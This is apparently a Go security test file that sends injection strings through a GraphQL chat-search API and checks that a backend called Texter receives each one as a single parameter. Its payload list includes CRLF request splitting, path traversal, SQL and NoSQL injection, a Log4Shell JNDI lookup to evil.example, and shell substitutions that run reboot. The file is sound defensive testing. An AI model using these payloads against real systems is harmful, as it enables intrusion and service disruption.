package hostile

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// TestInjections sends strings that could become more than one parameter, header
// or path on the way to Texter, in each argument that is a string.
func TestInjections(t *testing.T) {
	x := newTexter(t)
	p := start(t, nil, "-texter-url", x.url)
	for group, attacks := range map[string][]attack{
		"filter.search":            injections("$s: String!", "filter: {search: $s}", "search"),
		"filter.labels":            injections("$s: ID!", "filter: {labels: [$s]}", "labels[]"),
		"filter.channel.accountId": injections("$s: ID!", "filter: {channel: {name: EMAIL, accountId: $s}}", "channel[accountId]", "channel[name]", "email"),
		"cursors":                  cursors(),
		"operationName":            operationNames(),
		"other arguments":          otherArguments(),
	} {
		t.Run(group, func(t *testing.T) { run(t, p, x, attacks) })
	}
}

// injected returns strings that have a meaning in a URL, a header, a path or a
// shell.
func injected() []string {
	return []string{
		"ab&limit=10000", "ab&limit=10000&skip=1", "ab%26limit=10000", "ab;limit=10000", "ab?limit=10000", "ab#canary", "ab=1&labels[]=canary",
		"../../users", "..%2f..%2fusers", "/../../..", "//evil.example/", "http://evil.example/",
		"ab%0d%0aX-Evil: 1", "ab\r\nX-Evil: 1", "ab\r\n\r\nGET /evil HTTP/1.1\r\n\r\n", "ab\x00canary", "ab%00canary", "\x00\x00", "ab\u2028cd", "ab\u202ecd", "ab\ufeff",
		"ab+cd", "ab cd", "100%", "%zz", "[]", "ab]&x[", `ab"}`, `ab\`, "ab','", "' OR 1=1 --", `{"$gt":""}`, "${jndi:ldap://evil.example/}", "{{7*7}}", "$(reboot)", "`reboot`", "<script>",
		"\U0001f600\U0001f600", "אב", "e\u0301e\u0301", strings.Repeat("ab", 100),
	}
}

// injections puts each string into one argument. Texter must get it as the value
// of one parameter. More is the name and value of one that goes with it.
func injections(variable, arguments, parameter string, more ...string) (attacks []attack) {
	document := "query(" + variable + ") { searchChats(" + arguments + ") { totalCount } }"
	for _, s := range injected() {
		asked := url.Values{"limit": {"1"}, parameter: {s}}
		if len(more) > 0 {
			asked.Set(more[0], more[1])
		}
		attacks = append(attacks, attack{name: fmt.Sprintf("%.40q", s), send: post(operation(document, map[string]any{"s": s})), status: 200, asked: asked})
	}
	return append(attacks, attack{
		name: "120 kB", send: post(operation(document, map[string]any{"s": strings.Repeat("canary", 20_000)})), status: 200, code: "BAD_USER_INPUT",
	})
}

// cursors are requests with cursors that the service did not make.
func cursors() (attacks []attack) {
	for _, s := range append(injected(), "", "AQ", "AQ==", "null", "-1", "AYf2…", strings.Repeat("A", 100_000)) {
		attacks = append(attacks, attack{
			name: fmt.Sprintf("%.40q", s), send: post(operation("query($s: String) { searchChats(first: 1, after: $s) { totalCount } }", map[string]any{"s": s})),
			status: 200, code: "CURSOR_INVALID",
		})
	}
	return attacks
}

// operationNames are requests for an operation that the document does not have.
func operationNames() (attacks []attack) {
	for _, name := range []string{"canary", "../canary", "A&canary", "A\x00canary", "A\r\ncanary: 1", "__proto__", "<canary>", strings.Repeat("canary", 10_000)} {
		attacks = append(attacks, attack{
			name: fmt.Sprintf("%.40q", name), send: post(fmt.Sprintf(`{"query":"query A { searchChats { totalCount } }","operationName":%s}`, quoted(name))),
			status: 200, code: "GRAPHQL_VALIDATION_FAILED",
		})
	}
	return attacks
}

// otherArguments are requests with values of the wrong type. No message may repeat
// them.
func otherArguments() (attacks []attack) {
	for _, arguments := range []string{
		`first: "canary"`, `first: 1.5`, `first: true`, `first: [1]`, `first: {other: 1}`, `first: TAKEN`, `filter: {search: 123}`, `filter: {search: TAKEN}`,
		`filter: {labels: {other: 1}}`, `filter: {statuses: [TAKEN]}`, `filter: {statuses: ["canary"]}`, `filter: "canary"`, `filter: ["canary"]`, `filter: {other: 1}`, `other: 1`,
		`filter: {showNoMessages: "canary"}`, `filter: {showNoMessages: 0}`, `filter: {channel: {name: "canary", accountId: "1"}}`, `filter: {channel: {name: SMS, accountId: "1"}}`,
		`filter: {search: "ab", search: "canary"}`, `first: 1, first: 2`, `page: {first: "canary"}`,
	} {
		attacks = append(attacks, attack{name: arguments, send: ask("{ searchChats(" + arguments + ") { totalCount } }"), status: 200, code: "GRAPHQL_VALIDATION_FAILED"})
	}
	for variable, value := range map[string]any{
		"$v: Int": "canary", "$v: Int!": nil, "$v: ChatFilter": "canary", "$v: [ID!]": map[string]any{"other": "canary"}, "$v: [ChatStatus!]": []any{"CANARY"}, "$v: Boolean": "canary",
		"$v: SearchableChannelName": "CANARY", "$v: PageInput": map[string]any{"other": "canary"}, "$v: String": map[string]any{"other": "canary"}, "$v: ID": []any{"canary"}, "$v: ChatFilter!": map[string]any{"search": []any{"canary"}},
	} {
		argument := map[string]string{
			"Int": "first: $v", "ChatFilter": "filter: $v", "[ID!]": "filter: {labels: $v}", "[ChatStatus!]": "filter: {statuses: $v}", "Boolean": "filter: {showNoMessages: $v}",
			"SearchableChannelName": `filter: {channel: {name: $v, accountId: "1"}}`, "PageInput": "page: $v", "String": "filter: {search: $v}", "ID": `filter: {labels: [$v]}`,
		}[strings.TrimSuffix(strings.TrimPrefix(variable, "$v: "), "!")]
		attacks = append(attacks, attack{
			name: variable + fmt.Sprintf(" = %v", value), send: post(operation("query("+variable+") { searchChats("+argument+") { totalCount } }", map[string]any{"v": value})),
			status: 200, code: "GRAPHQL_VALIDATION_FAILED",
		})
	}
	return attacks
}
